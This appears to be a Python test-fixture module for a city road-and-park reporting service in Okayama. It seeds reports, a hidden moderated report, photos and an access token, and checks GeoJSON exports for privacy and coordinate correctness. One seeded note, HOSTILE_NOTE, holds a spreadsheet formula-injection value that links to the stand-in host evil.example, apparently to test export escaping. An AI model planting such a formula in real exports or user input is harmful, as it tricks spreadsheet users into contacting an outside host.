"""Reports seeded for the export and OGC tests, and the checks every GeoJSON answer must pass."""

import json
import re
from dataclasses import dataclass
from dataclasses import field
from datetime import datetime
from datetime import timedelta
from typing import Any

from sqlalchemy import create_engine
from sqlalchemy import pool
from sqlalchemy.orm import Session

from reporting import access
from reporting.models import Photo
from reporting.models import Report
from reporting.models import Resident
from reporting.report_filters import JST
from reporting.reports import create_report

# A resident whose LINE user ID must never appear in any export, anywhere.
LINE_ID = "U" + "5ec7e7" * 5 + "ab"

# Points well inside each ward of Okayama (over a kilometre from any border).
KITA = (133.9195, 34.6551)
NAKA = (133.9659, 34.6609)
HIGASHI = (134.0503, 34.6767)
MINAMI = (133.9052, 34.5840)
KITA_NORTH = (133.8811, 34.7720)

HOSTILE_NOTE = (
    '=HYPERLINK("http://evil.example/?q=1,2","クリック"), a "quoted" word, a comma,\n'
    "a second line\r\nand a tab\there: 穴が深い"
)
HIDDEN_NOTE = "hidden: abusive text that moderation took down"

# Extra reports in the north of Kita, so pages run to several.
CROWD = 18


@dataclass
class World:
    """What was seeded: ids by name, and every visible report's id."""

    ids: dict[str, int] = field(default_factory=dict)
    visible: set[int] = field(default_factory=set)
    token: str = ""

    @property
    def hidden(self) -> int:
        return self.ids["hidden"]


def _at(day: int, hour: int = 9) -> datetime:
    return datetime(2026, 11, day, hour, tzinfo=JST)


def seed(url: str) -> World:
    """Fill the database with reports in every ward, a hidden one, photos, and a token."""
    world = World()
    engine = create_engine(url, poolclass=pool.NullPool)
    with Session(engine) as session:
        resident = Resident(line_user_id=LINE_ID)
        session.add(resident)
        session.flush()

        def report(
            name: str,
            category: str,
            sub: str,
            point: tuple[float, float],
            when: datetime,
            status: str = "new",
            note: str | None = None,
        ) -> Report:
            made = create_report(
                session,
                category=category,
                subcategory=sub,
                lon=point[0],
                lat=point[1],
                now=when,
                note=note,
                resident_id=resident.id,
            )
            made.status = status
            if status == "resolved":
                made.resolved_at = when + timedelta(days=2)
            world.ids[name] = made.id
            return made

        report("pothole_kita", "road", "pothole", KITA, _at(1))
        report(
            "hostile",
            "road",
            "crack",
            (KITA[0] + 0.002, KITA[1] + 0.001),
            _at(2),
            "acknowledged",
            HOSTILE_NOTE,
        )
        bench = report("bench_naka", "park", "bench", NAKA, _at(3), "in_progress", "ベンチが壊れた")
        report("light_higashi", "road", "streetlight", HIGASHI, _at(4), "resolved")
        report("drain_minami", "road", "drain", MINAMI, _at(5), "rejected", "+81 を押して")
        hidden = report(
            "hidden",
            "road",
            "pothole",
            (KITA[0] + 0.001, KITA[1] + 0.001),
            _at(2),
            note=HIDDEN_NOTE,
        )
        hidden.hidden = True
        hidden.hidden_reason = "abuse"
        for i in range(CROWD):
            point = (KITA_NORTH[0] - 0.004 + 0.0004 * i, KITA_NORTH[1] - 0.003 + 0.0003 * i)
            report(f"crowd{i}", "road", "other", point, _at(6 + i % 20, 8 + i % 10))
        for position in range(2):
            session.add(
                Photo(
                    report_id=bench.id,
                    position=position,
                    content_hash=f"{position:064d}",
                    size_bytes=1,
                    width=1,
                    height=1,
                    storage_key="k",
                    thumbnail_key="t",
                )
            )
        world.token = access.create_token(session, "analyst")
        session.commit()
    engine.dispose()
    world.visible = {i for name, i in world.ids.items() if name != "hidden"}
    return world


def bearer(world: World) -> dict[str, str]:
    return {"Authorization": f"Bearer {world.token}"}


_NUMBER = re.compile(r'"coordinates":\[([^\]]*)\]')


def check_geojson(body: bytes) -> dict[str, Any]:
    """Check an RFC 7946 FeatureCollection of points in Japan; return it parsed."""
    assert LINE_ID.encode() not in body
    assert b'"crs"' not in body
    for coordinates in _NUMBER.findall(body.decode()):
        for number in coordinates.split(","):
            decimals = number.partition(".")[2]
            assert len(decimals) <= 7, number
    document = json.loads(body)
    assert document["type"] == "FeatureCollection"
    for feature in document["features"]:
        check_feature(feature)
    return document


def check_feature(feature: dict[str, Any]) -> None:
    assert feature["type"] == "Feature"
    assert isinstance(feature["id"], int)
    assert isinstance(feature["properties"], dict)
    assert "crs" not in feature and "crs" not in feature["geometry"]
    assert feature["geometry"]["type"] == "Point"
    lon, lat = feature["geometry"]["coordinates"]
    assert -180 <= lon <= 180 and -90 <= lat <= 90
    # In Japan longitude is 122-154 and latitude 20-46: a swapped pair cannot pass.
    assert 122 <= lon <= 154 and 20 <= lat <= 46, (lon, lat)
